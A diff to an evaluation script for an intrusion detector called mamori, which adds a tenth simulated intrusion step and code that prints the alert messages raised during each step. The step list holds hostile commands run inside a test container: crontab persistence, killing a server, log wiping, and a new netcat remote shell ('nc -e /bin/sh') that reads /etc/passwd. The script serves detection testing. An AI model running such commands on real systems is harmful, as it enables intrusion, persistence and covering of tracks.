@@ -8,7 +8,8 @@
 #      other model is trained from that same recording (`mamori learn --from`), so the models
 #      differ only in the model;
 #   3. one `mamori agent` per model watches the container (each with its own probe) for WATCH of
-#      normal operation, then nine intrusion steps run with `docker exec`, 20 s apart;
+#      normal operation, then ten intrusion steps run with `docker exec`, 20 s apart (the last a
+#      remote shell: `nc -e /bin/sh` to a listener in the container that sends two commands);
 #   4. each alert is credited to a step when its time falls within the step or up to 2 s after
 #      it (strict: earlier or later alerts are false alarms, as are all alerts before the first
 #      step).
@@ -93,6 +94,7 @@ steps=(
     "persistence|mkdir -p /etc/crontabs; echo '* * * * * /tmp/.x' >> /etc/crontabs/root"
     "freeze-server|kill -STOP \$(pidof httpd); sleep 1; kill -CONT \$(pidof httpd)"
     "cover-tracks|rm -f /tmp/.x /tmp/.fw.log; truncate -s 0 /var/log/cam.log"
+    "remote-shell|(sleep 1; echo 'cat /etc/passwd'; sleep 1; echo exit; sleep 1) | nc -l -p 4444 >/dev/null & sleep 0.5; nc 127.0.0.1 4444 -e /bin/sh; wait"
 )
 : >"$work/steps.tsv"
 for step in "${steps[@]}"; do
@@ -151,6 +153,23 @@ for kind in kinds:
     with open(f"{work}/false-{kind}.jsonl", "w") as f:
         for a in false:
             f.write(json.dumps(a) + "\n")
+print()
+# what the context signals said during each step, as the first model's agent wrote it
+said = {}
+try:
+    lines = open(f"{work}/alerts-{kinds[0]}.jsonl").readlines()
+except FileNotFoundError:
+    lines = []
+for line in lines:
+    a = json.loads(line)
+    if a.get("record") != "alert" or a.get("source") != "context":
+        continue
+    for s in steps:
+        if s[0] <= a["time_ns"] <= s[1] + 2 * 10**9:
+            said.setdefault(s[2], []).append(a["evidence"]["message"])
+for s in steps:
+    if s[2] in said:
+        print(f"- {s[2]} ({kinds[0]}): " + "; ".join(f"`{m}`" for m in said[s[2]]))
 print()
 for kind in kinds:
     for line in open(f"{work}/false-{kind}.jsonl"):
